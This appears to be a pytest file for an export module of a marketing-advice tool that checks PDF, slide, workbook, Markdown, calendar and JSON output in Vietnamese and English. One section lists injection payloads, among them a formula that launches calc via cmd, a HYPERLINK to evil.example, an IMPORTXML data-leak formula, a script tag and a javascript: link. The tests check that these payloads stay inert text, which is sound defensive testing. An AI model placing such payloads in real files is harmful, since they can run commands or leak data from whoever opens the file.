"""An answer handed over as files: every format, both languages, what it says and what it may not do.

Workbook and slides have files of their own beside this one.
"""

import io
import json
import unicodedata
import zipfile
from datetime import date
from functools import cache
from pathlib import Path

import pytest
from pypdf import PdfReader

from kos_core.advice.advice import Advice, advise
from kos_core.brief import Brief, to_token
from kos_core.case import SEED, Case
from kos_core.errors import KosError
from kos_core.export import case_file
from kos_core.export.clean import cell, markdown, plain, shortened
from kos_core.export.exporting import export_of
from kos_core.export.fonts import drawable, lines_of, width
from kos_core.export.formats import MEDIA_TYPES, Format, file_name
from kos_core.export.sheet import HERE, sheet_of
from kos_core.knowledge.loading import load
from kos_core.say.sentences import Sentences
from kos_core.say.text import Text, text_of
from kos_core.vocabulary import Lang

STARTS = date(2026, 11, 30)
BEAUTY = Brief(category="beauty", goal="sales", budget_vnd=100_000_000, price_vnd=250_000, cost_vnd=100_000)
LAUNCH = Brief(
    category="electronics", goal="launch", budget_vnd=2_000_000_000, price_vnd=199_000, cost_vnd=60_000
)
BANK = Brief(category="finance_insurance", goal="trust", budget_vnd=500_000_000)
POOR = Brief(category="beauty", goal="sales", budget_vnd=5_000_000, price_vnd=50_000, cost_vnd=45_000)
STOPPED = Brief(category="beauty", goal="sales", ready={"papers": "no"})
CASES = {"beauty": BEAUTY, "launch": LAUNCH, "bank": BANK, "poor": POOR, "stopped": STOPPED}
LANGS: tuple[Lang, ...] = ("vi", "en")


@cache
def answer(name: str) -> Advice:
    return advise(Case(CASES[name], load()))


def handed(name: str, kind: Format, lang: Lang = "vi", text: Text | None = None, address: str = "") -> bytes:
    said = Sentences(answer(name), text or text_of(lang))
    return export_of(kind, answer(name), STARTS, said, address)


def page_text(raw: bytes) -> str:
    return " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(raw)).pages).split())


# Every format


@pytest.mark.parametrize("kind", [*Format])
@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("name", [*CASES])
def test_every_answer_is_handed_over_in_every_format(name: str, lang: Lang, kind: Format) -> None:
    raw = handed(name, kind, lang)
    assert len(raw) > 300
    starts = {"pptx": b"PK", "xlsx": b"PK", "pdf": b"%PDF", "md": b"# ", "ics": b"BEGIN", "json": b"{"}
    assert raw.startswith(starts[kind])


@pytest.mark.parametrize("kind", [Format.XLSX, Format.PDF, Format.MD, Format.ICS, Format.JSON])
def test_the_same_case_from_the_same_day_gives_the_same_bytes(kind: Format) -> None:
    assert handed("beauty", kind) == handed("beauty", kind)


def test_every_format_has_a_media_type_and_a_file_name_in_plain_letters() -> None:
    assert set(MEDIA_TYPES) == set(Format)
    assert file_name(answer("beauty"), Format.PPTX) == "kos-beauty-sales-100tr.pptx"
    assert file_name(answer("launch"), Format.MD) == "kos-electronics-launch-2ty.md"
    assert all(file_name(answer(name), kind).isascii() for name in CASES for kind in Format)


@pytest.mark.parametrize("kind", [Format.MD, Format.PDF])
def test_no_vietnamese_stands_in_an_english_file_and_no_gap_is_left_open(kind: Format) -> None:
    """The letters Vietnamese alone has; names of campaigns do not stand on one page."""
    for name in CASES:
        raw = handed(name, kind, "en")
        said = raw.decode() if kind is Format.MD else page_text(raw)
        assert not set("ăđơưĂĐƠƯ") & set(unicodedata.normalize("NFC", said)), name
        assert "{" not in said


# The one-pager and the note


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("name", [*CASES])
def test_the_one_pager_is_one_page_and_says_the_answer(name: str, lang: Lang) -> None:
    raw = handed(name, Format.PDF, lang)
    assert len(PdfReader(io.BytesIO(raw)).pages) == 1
    sheet = sheet_of(answer(name), STARTS, Sentences(answer(name), text_of(lang)))
    found = unicodedata.normalize("NFC", page_text(raw))
    for said in (sheet.title, sheet.what, sheet.stop, *(one.value for one in sheet.numbers), *sheet.steps):
        assert " ".join(drawable(said).split()) in found, said


def test_the_one_pager_holds_vietnamese_letters_as_they_are_written() -> None:
    """Read back in composed letters, from a typeface that is in the file."""
    raw = handed("beauty", Format.PDF)
    said = page_text(raw)
    for words in (
        "Thử nhỏ trước",
        "Người bán live chuyên nghiệp",
        "đơn thành công",
        "Bình quân lãi",
        "Tuần 1",
    ):
        assert words in said
    assert "?" not in said.replace("/?b=", "").replace("Bạn có chưa?", "").replace("đâu?", "")
    fonts = PdfReader(io.BytesIO(raw)).pages[0]["/Resources"]["/Font"]
    for font in fonts.values():
        inside = font.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"].get_object()
        assert "/FontFile2" in inside


def test_a_long_answer_is_set_smaller_until_it_is_one_page() -> None:
    """Twelve platforms' worth of words: every sentence of the page three times as long."""
    sheet = sheet_of(answer("launch"), STARTS, Sentences(answer("launch"), text_of("vi")))
    from dataclasses import replace

    from kos_core.export.page import page_of

    long = replace(sheet, steps=tuple(f"{one} {one}" for one in sheet.steps), checks=sheet.checks * 2)
    raw = page_of(long, answer("launch").decision, STARTS, text_of("vi"))
    assert len(PdfReader(io.BytesIO(raw)).pages) == 1


def test_the_note_holds_the_plan_as_a_table_and_the_link_that_opens_the_case() -> None:
    said = handed("beauty", Format.MD, address="https://kos.example/").decode()
    assert f"<https://kos.example/?b={to_token(BEAUTY)}&lang=vi>" in said
    heads = [line for line in said.splitlines() if line.startswith("| ")]
    assert len(heads) == 2 + len(answer("beauty").plan.lines) + 1
    assert len({line.count(" | ") for line in heads}) == 1
    assert HERE in handed("beauty", Format.MD).decode()


def test_all_formats_say_the_same_numbers() -> None:
    """What is spent and what usually comes back: one number, wherever it stands."""
    sheet = sheet_of(answer("beauty"), STARTS, Sentences(answer("beauty"), text_of("vi")))
    spent, usual, times = (one.value for one in sheet.numbers)
    assert (spent, usual, times) == ("98,3\u00a0triệu", "330", "5/10")
    note, page = handed("beauty", Format.MD).decode(), page_text(handed("beauty", Format.PDF))
    slides = zipfile.ZipFile(io.BytesIO(handed("beauty", Format.PPTX)))
    first = slides.read("ppt/slides/slide1.xml").decode()
    for value in (spent, usual, times):
        assert value in note
        assert " ".join(value.split()) in page
        assert value in first


# Words that want to be more than words

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1-1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://evil.example","x")', '=IMPORTXML(CONCAT("http://e",A1),"//a")',
    "\x00=1", "a\x0bb", "a\x1bc", "\u202egnp.exe", "\ufeff=1+1", "{=1+1}", "[x](javascript:alert(1))",
    "<script>alert(1)</script>", "]]>&<!--", "**# | `x` _y_",
)  # fmt: skip


def spoken(payload: str) -> Text:
    """The sentences with a reader's words in place of the names of goal and case."""
    usual = text_of("en")
    changed = dict.fromkeys(("ask.summary", "plan.decision.try", "plan.spend", "section.next"), payload)
    safe = {key: words.replace("{", "{{").replace("}", "}}") for key, words in changed.items()}
    return Text("en", usual.phrases | safe)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_words_of_a_reader_stay_words_in_every_format(payload: str) -> None:
    """No formula, no link, no markup, no control sign comes of them; the file is still read."""
    from openpyxl import load_workbook
    from pptx import Presentation

    text = spoken(payload)
    sheets = handed("beauty", Format.XLSX, text=text)
    book = load_workbook(io.BytesIO(sheets))
    front = book.worksheets[0]
    cells = [one for row in front.iter_rows() for one in row if one.value is not None]
    assert all(one.data_type == "s" for one in cells)
    assert any(one.quotePrefix is not None and plain(payload) in str(one.value) for one in cells)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(sheets)).read("xl/worksheets/sheet1.xml")
    deck = Presentation(io.BytesIO(handed("beauty", Format.PPTX, text=text)))
    said = "\n".join(s.text_frame.text for one in deck.slides for s in one.shapes if s.has_text_frame)
    assert plain(payload) in said
    assert not any(unicodedata.category(sign) == "Cc" and sign not in "\n\v" for sign in said)
    assert not any(
        s.click_action.hyperlink.address for one in deck.slides for s in one.shapes if s.shape_type == 17
    )
    note = handed("beauty", Format.MD, text=text).decode()
    assert markdown(payload) in note
    assert "<script>" not in note
    assert "[x](" not in note
    page = handed("beauty", Format.PDF, text=text)
    assert len(PdfReader(io.BytesIO(page)).pages) == 1
    assert b"evil.example" not in b"".join(
        str(note_.get_object()).encode() for note_ in PdfReader(io.BytesIO(page)).pages[0].get("/Annots", [])
    )
    assert handed("beauty", Format.ICS, text=text).startswith(b"BEGIN:VCALENDAR")
    assert case_file.read(handed("beauty", Format.JSON, text=text), load()).case.brief == BEAUTY


@pytest.mark.parametrize("payload", PAYLOADS[:9])
def test_a_cell_that_begins_like_a_formula_begins_with_an_apostrophe(payload: str) -> None:
    found = cell(payload)
    assert found.startswith("'")
    assert not set("\t\r\n\x00") & set(found)


def test_plain_words_lose_control_and_direction_signs_and_are_composed() -> None:
    assert plain("a\tb\r\nc") == "a b c"
    assert plain("x\u202ey\u200b\x00z") == "xyz"
    assert plain(unicodedata.normalize("NFD", "Thử nhỏ trước")) == "Thử nhỏ trước"
    assert plain("98,3\u00a0triệu") == "98,3\u00a0triệu"
    assert plain("\ud800lone") == "lone"


def test_long_words_are_cut_after_a_word() -> None:
    assert shortened("một hai ba bốn", 10) == "một hai…"
    assert shortened("một hai", 10) == "một hai"
    assert len(shortened("x" * 500, 40)) == 40


def test_markdown_signs_are_escaped_where_they_would_mean_something() -> None:
    assert markdown("a|b*c_d`e") == "a\\|b\\*c\\_d\\`e"
    assert markdown("# x") == "\\# x"
    assert markdown("1. x") == "1\\. x"
    assert markdown("1.200 đơn") == "1.200 đơn"
    assert markdown("a - b") == "a - b"


# Measuring


def test_words_are_measured_with_the_letters_of_the_typeface() -> None:
    """W is wider than i, bold wider than plain, twice the size twice as wide; lines break between words."""
    assert width("W", 10) > 2 * width("i", 10)
    assert width("Người bán", 10, bold=True) > width("Người bán", 10)
    assert width("ab", 20) == pytest.approx(2 * width("ab", 10))
    room = width("một hai", 10) + 0.1
    assert lines_of("một hai ba", room, 10) == 2
    assert lines_of("một hai", room, 10) == 1
    assert lines_of("m" * 40, width("m" * 10, 10) + 0.1, 10) == 4


def test_signs_the_typeface_lacks_are_replaced_by_near_ones() -> None:
    assert drawable("a → b 漢") == "a » b ?"
    assert drawable("ăâđêôơư ẴỄỘỰ ₫ – “ ” … −") == "ăâđêôơư ẴỄỘỰ ₫ – “ ” … −"


# The case as a file


@pytest.mark.parametrize("name", [*CASES])
def test_a_case_read_back_is_the_same_case_with_its_seed(name: str) -> None:
    case = Case(CASES[name], load(), 7)
    filed = case_file.read(case_file.written(case), load())
    assert filed.case == case
    assert filed.case.brief == CASES[name]
    assert not filed.is_of_other_knowledge


def test_own_figures_weights_and_wishes_go_with_the_case() -> None:
    brief = BEAUTY.with_(
        assumptions=(("any.any.beauty.return_rate", 0.1),),
        weights=(("closing", 30.0),),
        locks=(("kos_own@facebook_live", 20),),
        at_most=(("ads", 10_000_000),),
    )
    case = Case(brief, load())
    assert case_file.read(case_file.written(case), load()).case == case


def written(**changes: object) -> bytes:
    whole = json.loads(case_file.written(Case(BEAUTY, load())))
    brief = whole["brief"] | changes.pop("brief", {})  # type: ignore[operator]
    return json.dumps(whole | {"brief": brief} | changes).encode()


@pytest.mark.parametrize(
    ("raw", "key"),
    [
        (b"", "case_file.not_json"),
        (b"\xff\xfe", "case_file.not_json"),
        (b"[" * 100_000, "case_file.not_json"),
        (b'{"format": "kos-compass-case", "format": "x"}', "case_file.not_json"),
        (b'{"format": "kos-compass-case", "version": NaN}', "case_file.not_json"),
        (b"[]", "case_file.not_ours"),
        (b'{"format": "other"}', "case_file.not_ours"),
        (b" " * (case_file.LARGEST + 1), "case_file.too_large"),
        (written(version=2), "case_file.other_version"),
        (written(version=True), "case_file.other_version"),
        (written(formula="=1+1"), "case_file.unknown"),
        (written(brief={"colour": "red"}), "case_file.unknown"),
        (written(brief={"traits": {"nice": "yes"}}), "case_file.unknown"),
        (written(brief={"category": "cars"}), "case_file.bad_value"),
        (written(brief={"budget_vnd": "100tr"}), "case_file.bad_value"),
        (written(brief={"weeks": True}), "case_file.bad_value"),
        (written(brief={"weeks": 53}), "brief.out_of_bounds"),
        (written(brief={"margin_rate": 0.5}), "brief.cost_twice"),
        (written(brief={"weights": [["nothing", 1.0]]}), "brief.unknown_criterion"),
        (written(brief={"assumptions": [["nothing", 1.0]]}), "brief.unknown_assumption"),
        (written(seed=-1), "case_file.bad_value"),
        (written(seed=1.5), "case_file.bad_value"),
        (written(seed=2**32), "case_file.bad_value"),
        (written(knowledge_version=3), "case_file.bad_value"),
        (b'{"format": "kos-compass-case", "version": 1}', "case_file.bad_value"),
    ],
)  # fmt: skip
def test_what_is_no_case_is_refused_by_name(raw: bytes, key: str) -> None:
    with pytest.raises(KosError) as refused:
        case_file.read(raw, load())
    assert refused.value.key == key
    from kos_core.say.wording import refusal

    assert all(refusal(refused.value, text_of(lang)) for lang in LANGS)


def test_a_case_without_seed_takes_the_usual_one_and_one_of_other_knowledge_says_so() -> None:
    whole = json.loads(case_file.written(Case(BEAUTY, load())))
    del whole["seed"]
    filed = case_file.read(json.dumps(whole | {"knowledge_version": "older"}).encode(), load())
    assert filed.case.seed == SEED
    assert filed.is_of_other_knowledge


def test_the_schema_names_every_field_of_a_brief_with_its_bounds() -> None:
    found = case_file.schema()
    brief = found["$defs"]["Brief"]
    assert set(brief["properties"]) == set(Brief.model_fields)
    assert brief["additionalProperties"] is False
    assert brief["properties"]["weeks"]["maximum"] == 52
    assert set(found["properties"]) == set(case_file.FIELDS)
    refs = json.dumps(found).count("#/$defs/")
    assert refs
    assert all(f'"{name}"' in json.dumps(found["$defs"]) for name in ("Traits", "Ready"))


def test_the_schema_that_is_published_is_the_one_in_force(root: Path) -> None:
    """`python -m tests.unit.test_export` writes it anew."""
    assert json.loads((root / "docs/case.schema.json").read_text("utf-8")) == case_file.schema()


if __name__ == "__main__":
    file = Path(__file__).parents[2] / "docs/case.schema.json"
    file.write_text(json.dumps(case_file.schema(), indent=2, ensure_ascii=False) + "\n", "utf-8")
